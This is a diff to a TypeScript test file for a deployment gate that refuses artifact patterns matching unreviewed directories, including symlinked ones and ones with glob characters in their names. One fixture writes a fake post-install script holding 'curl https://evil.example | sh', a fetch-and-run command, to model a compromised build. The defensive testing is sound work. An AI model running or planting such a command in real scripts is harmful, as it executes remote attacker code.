@@ -3,7 +3,7 @@
 // the step after the gate (`./deploy.sh artifacts/*`) ships it. A compromised build job put `payload/post-install.sh`
 // beside the reviewed artifact: no provenance, signature, review attestation or decision record named its bytes, and
 // the gate said verified. A directory a pattern matches must now have every file in it among the subjects.
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { SubjectError } from '@twokey/core';
@@ -31,7 +31,7 @@ describe('resolveSubjects with subject-path', () => {
     expect(error).toBeInstanceOf(SubjectError);
     expect((error as SubjectError).code).toBe('SUBJECT_DIRECTORY');
     expect((error as Error).message).toBe(
-      'subject-path: "artifacts/*" matches the directory artifacts/payload, and artifacts/payload/post-install.sh in it is no subject; an artifact is a file: name the files (e.g. "artifacts/payload/**") or leave the directory out',
+      'subject-path: "artifacts/*" matches a directory that holds artifacts/payload/post-install.sh, which is no subject; an artifact is a file: name the files in it too (e.g. "artifacts/*/**") or leave the directory out',
     );
   });
 
@@ -42,6 +42,28 @@ describe('resolveSubjects with subject-path', () => {
       'post-install.sh',
     ]);
     expect((await resolve('artifacts/*.tar.gz')).map((s) => s.name)).toEqual(['app.tar.gz']);
+  });
+
+  it('refuses a link to a directory the same way (a transport that keeps links ships what it points to)', async () => {
+    mkdirSync(join(workspace, '.stash'));
+    renameSync(join(workspace, 'artifacts', 'payload'), join(workspace, '.stash', 'payload'));
+    symlinkSync('../.stash/payload', join(workspace, 'artifacts', 'payload'));
+    await expect(resolve('artifacts/*')).rejects.toThrow(
+      'subject-path: "artifacts/*" matches a directory that holds artifacts/payload/post-install.sh, which is no subject',
+    );
+    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
+  });
+
+  it('refuses a directory whatever its name (a backslash, glob characters)', async () => {
+    for (const name of ['pay\\load', '[x]{y}*?!']) {
+      rmSync(join(workspace, 'artifacts'), { recursive: true });
+      mkdirSync(join(workspace, 'artifacts', name), { recursive: true });
+      writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0\n');
+      writeFileSync(join(workspace, 'artifacts', name, 'post-install.sh'), 'curl https://evil.example | sh\n');
+      await expect(resolve('artifacts/*')).rejects.toThrow(
+        `matches a directory that holds artifacts/${name}/post-install.sh, which is no subject`,
+      );
+    }
   });
 
   it('lets an empty directory be: nothing in it ships', async () => {
